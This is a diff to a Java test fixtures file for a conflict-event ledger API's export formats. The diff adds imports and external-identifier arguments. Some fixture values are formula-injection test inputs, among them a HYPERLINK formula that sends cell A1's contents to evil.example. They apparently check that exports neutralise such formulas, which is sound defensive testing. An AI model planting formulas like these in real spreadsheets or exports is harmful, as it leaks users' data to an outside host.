@@ -1,5 +1,7 @@
 package org.conflictledger.events.api.formats;
 
+import org.conflictledger.events.domain.ConflictEventRules;
+import org.conflictledger.platform.api.ExternalIdentifier;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.List;
@@ -44,7 +46,7 @@ final class Fixtures {
                 event.actors(), event.fatalities(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                 event.confidence(), event.agreementId(), "'=already quoted", event.respondsTo(),
                 List.of(new Citation("=1+1", "-publisher", null, null), new Citation("plain title", null, null, null)),
-                "-AZE1", event.ucdpGedId());
+                "-AZE1", event.ucdpGedId(), null);
     }
 
     /** A battle with every field set; notes with a comma, quotes and a line break. */
@@ -64,7 +66,7 @@ final class Fixtures {
                 List.of(new Citation("Azerbaijan Ministry of Defence statement", "MoD Azerbaijan",
                                 "https://mod.gov.az/en/news/1", LocalDate.of(2020, 9, 27)),
                         new Citation("Armenia says Azerbaijan attacked, \"war\" declared", "Armenpress", null, null)),
-                "AZE6012", "245123");
+                "AZE6012", "245123", null);
     }
 
     /** A ceasefire violation by shelling: an Explosions sub-type on a type exported as Battles. */
@@ -74,7 +76,7 @@ final class Fixtures {
                 new Location(null, "Lachin", null, null, "Azerbaijan", null, null, GeoPrecision.ADMIN1),
                 List.of(new InvolvedActor(unkeyed.id(), ActorRole.PERPETRATOR),
                         new InvolvedActor(armenia.id(), ActorRole.AFFECTED)),
-                null, null, null, agreement, "Art. 1", respondsTo, List.of(), null, null);
+                null, null, null, agreement, "Art. 1", respondsTo, List.of(), null, null, null);
     }
 
     /** A statement signed by two parties with a mediator; no place. */
@@ -88,7 +90,7 @@ final class Fixtures {
                 List.of(new Citation("Statement by the President of Azerbaijan, Prime Minister of Armenia and"
                         + " President of the Russian Federation", "Kremlin", "http://en.kremlin.ru/events/president/news/64384",
                         LocalDate.of(2020, 11, 10))),
-                null, null);
+                null, null, null);
     }
 
     /** The API's view of {@code details}, naming its actors from the directory. */
@@ -99,7 +101,8 @@ final class Fixtures {
         }).toList();
         return new ConflictEventRepresentation(id, d.theater(), d.type(), d.subType(), d.date(), d.datePrecision(),
                 d.endDate(), d.location(), participants, d.fatalities(), d.notes(), d.confidence(), d.agreementId(),
-                d.term(), d.respondsTo(), d.sources(), d.acledEventId(), d.ucdpGedId(), ConflictEventStatus.CONFIRMED,
+                d.term(), d.respondsTo(), d.sources(), d.acledEventId(), d.ucdpGedId(),
+                ConflictEventRules.externalIds(d).stream().map(ExternalIdentifier::of).toList(), ConflictEventStatus.CONFIRMED,
                 3, Instant.parse("2020-09-27T12:00:00Z"), UPDATED_AT, null);
     }
 }
